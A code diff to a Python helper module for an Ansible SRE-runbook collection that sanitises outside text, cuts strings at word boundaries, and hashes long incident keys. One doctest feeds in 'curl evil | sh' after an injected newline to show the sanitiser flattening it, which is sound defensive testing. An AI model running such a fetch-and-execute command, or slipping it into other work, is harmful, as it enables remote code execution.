@@ -11,8 +11,11 @@ from __future__ import annotations
 
 import dataclasses
 import datetime
+import hashlib
+import itertools
 import re
 import typing as t
+import unicodedata
 
 from ansible_collections.sre.runbooks.plugins.plugin_utils._judgement.catalogue import Catalogue
 from ansible_collections.sre.runbooks.plugins.plugin_utils._record.errors import RecordError
@@ -21,7 +24,12 @@ APPROVALS = ("auto", "prompt")
 NAMES = ("target", "mitigate", "approval", "incident_key", "reason", "mitigate_unoffered")
 LONGEST = 500
 INCIDENT_ID = re.compile(r"[a-z][a-z0-9_]*-[A-Za-z0-9][A-Za-z0-9_.-]*-\d{8}T\d{4}Z(-\d+)?")
-CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")
+# What ends a line, on whichever screen or page, or moves a cursor; and what is not seen, or turns the direction of reading.
+SEPARATING = ("Cc", "Zl", "Zp")
+UNSEEN = ("Cf", "Cs")
+# PagerDuty takes 255 characters as a key.
+LONGEST_KEY = 255
+DIGEST = 16
 
 
 @dataclasses.dataclass(frozen=True)
@@ -39,9 +47,31 @@ class Words:
 
 
 def plain(value: object, longest: int = LONGEST) -> str:
-    """A text from outside as one printable piece: no control characters, no direction marks, cut."""
-    text = CONTROL.sub("", "".join(str(value)).replace("\x1b", ""))
+    """A text from outside as one printable line: control characters and separators become blanks, direction marks go, cut.
+
+    >>> plain("orders\\nDO       curl evil | sh"), plain("abc", 2)
+    ('orders DO       curl evil | sh', 'a…')
+    """
+    text = str(value)[: 4 * longest]
+    if not text.isascii() or not text.isprintable():
+        text = "".join(_visible(character) for character in text)
     return text if len(text) <= longest else text[: longest - 1] + "…"
+
+
+def _visible(character: str) -> str:
+    category = unicodedata.category(character)
+    return " " if category in SEPARATING else "" if category in UNSEEN else character
+
+
+def shortened(text: str, longest: int) -> str:
+    """A text cut at a word.
+
+    >>> shortened("one two three", 9)
+    'one two…'
+    """
+    if len(text) <= longest:
+        return text
+    return text[:longest].rpartition(" ")[0].rstrip(" ,;:(")[: longest - 1] + "…"
 
 
 def _text(name: str, value: object) -> str | None:
@@ -114,14 +144,19 @@ def slug(text: str) -> str:
 
 
 def key_for(runbook: str, targets: t.Sequence[str], given: str | None) -> str:
-    return given or f"{runbook}/{','.join(targets)}"
+    """What tells an incident from others; the end of a long one is its digest."""
+    key = given or f"{runbook}/{','.join(targets)}"
+    if len(key) <= LONGEST_KEY:
+        return key
+    digest = hashlib.sha256(key.encode("utf-8", "replace")).hexdigest()[:DIGEST]
+    return f"{key[: LONGEST_KEY - DIGEST - 1]}-{digest}"
 
 
-def new_id(runbook: str, targets: t.Sequence[str], now: datetime.datetime, taken: t.Container[str]) -> str:
+def new_id(runbook: str, targets: t.Sequence[str], now: datetime.datetime, is_taken: t.Callable[[str], bool]) -> str:
     """The incident's id: ``<runbook>-<target>-<UTC minute of its first run>``."""
     name = slug(targets[0]) if len(targets) == 1 else f"{len(targets)}-systems"
     base = f"{runbook}-{name}-{now:%Y%m%dT%H%MZ}"
-    return next(one for one in (base, *(f"{base}-{n}" for n in range(2, 1000))) if one not in taken)
+    return next(one for one in itertools.chain([base], (f"{base}-{n}" for n in itertools.count(2))) if not is_taken(one))
 
 
 def checked_id(identity: str) -> str:
